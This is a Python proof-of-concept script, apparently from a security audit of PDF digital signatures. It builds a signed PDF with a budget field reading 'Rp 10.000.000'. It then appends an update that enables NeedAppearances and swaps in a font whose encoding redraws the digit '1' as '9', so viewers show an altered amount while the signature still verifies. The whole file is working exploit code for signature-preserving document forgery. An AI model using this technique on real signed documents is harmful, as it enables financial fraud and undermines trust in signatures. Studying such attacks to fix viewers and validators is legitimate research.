# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 8 candidate: FORM_RESOURCES_UPDATED allows /NeedAppearances and /DR. A read-only
# field's value (signed) is re-drawn by viewers that honour NeedAppearances with the /DR
# font, whose /Encoding now maps code '1' to glyph /nine.
from common import *
import sys
mode = sys.argv[1] if len(sys.argv) > 1 else "approval"
OLD = b"BT /F1 18 Tf 72 760 Td (Nota Dinas) Tj ET"
APS = b"/Tx BMC q BT /Helv 18 Tf 0 g 2 6 Td (Rp 10.000.000) Tj ET Q EMC"
objs = {1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>",
        4: stream(OLD), 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 1 /T (anggaran) /V (Rp 10.000.000) /Rect [72 700 372 730] /P 3 0 R /F 4 /AP << /N 8 0 R >> >>",
        7: b"<< /Fields [6 0 R] /DA (/Helv 18 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>",
        8: stream(APS, b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /Helv 5 0 R >> >> ")}
tag = "a7-" + mode
src = write(tag + "-src.pdf", build(objs))
signed = sign(src, W + "/" + tag + "-signed.pdf", *([] if mode == "approval" else ["--certify", mode]))
p = pdftool.Pdf(signed); n = p.size()
acro = p.object(7)
import re
acro = acro.replace(b"/DR << /Font << /Helv 5 0 R >> >>", b"/DR << /Font << /Helv %d 0 R >> >> /NeedAppearances true" % n)
f = write(tag + "-attack.pdf", update(signed, {7: acro,
   n: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>"}))
verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
